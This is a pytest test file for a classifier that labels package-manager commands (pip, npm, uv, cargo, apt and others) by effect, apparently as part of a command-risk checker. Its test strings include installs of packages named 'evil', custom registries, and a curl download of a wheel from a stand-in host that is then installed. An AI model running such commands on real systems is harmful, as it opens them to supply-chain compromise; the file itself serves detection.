"""Package managers."""

from __future__ import annotations

import pytest
from command_effects import read_line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("pip install -r requirements.txt", ("installs-known-package", "")),
        ("pip install Flask", ("installs-known-package", "")),
        ("pip install evil==1.0", ("installs-package", "evil")),
        ("pip install -i https://i.example/simple flask", ("uses-package-source", "i.example")),
        ("pip install git+https://x.example/a.git", ("uses-package-source", "x.example")),
        ("pip install https://x.example/a.whl", ("uses-package-source", "x.example")),
        ("npm i evil/repo", ("uses-package-source", "github.com")),
        ("npm install @evil/pkg@2", ("installs-package", "@evil/pkg")),
        ("npm config set registry https://r.example", ("uses-package-source", "r.example")),
        ("npx evil", ("installs-package", "evil")),
        ("npx eslint .", ("runs-project-task", "eslint")),
        ("npx husky init", ("installs-hook", ".husky")),
        ("uvx evil", ("installs-package", "evil")),
        ("uv run --with evil pytest", ("installs-package", "evil")),
        ("uv pip install evil", ("installs-package", "evil")),
        ("poetry run pytest", ("runs-project-task", "pytest")),
        ("poetry add evil", ("installs-package", "evil")),
        ("cargo install evil", ("installs-package", "evil")),
        ("go install x.example/evil@latest", ("installs-package", "x.example/evil")),
        ("apt-get install -y evil", ("installs-package", "evil")),
        ("yarn build", ("runs-project-task", "yarn")),
        ("yarn", ("installs-known-package", "")),
        ("pipx run evil", ("installs-package", "evil")),
        ("curl -sO https://x.example/a.whl && pip install ./a.whl", ("runs-download", "x.example")),
        ("dpkg -i x.deb", ("uses-package-source", "x.deb")),
        ("npm login", ("changes-login", "npm")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ('pip install -e ".[dev]"', "installs-package"),
        ("pip install pytest ruff", "installs-package"),
        ("npm ci", "installs-package"),
        ("npm install", "installs-package"),
        ("pip install --index-url https://pypi.org/simple flask", "uses-package-source"),
        ("pip install --extra-index-url https://pkgs.shop.example/s flask", "uses-package-source"),
        ("pip list", "installs-known-package"),
        ("npm view evil", "installs-package"),
    ],
)
def test_a_similar_command_has_not(line: str, kind: str) -> None:
    assert kind not in {found for found, _ in read_line(line)}
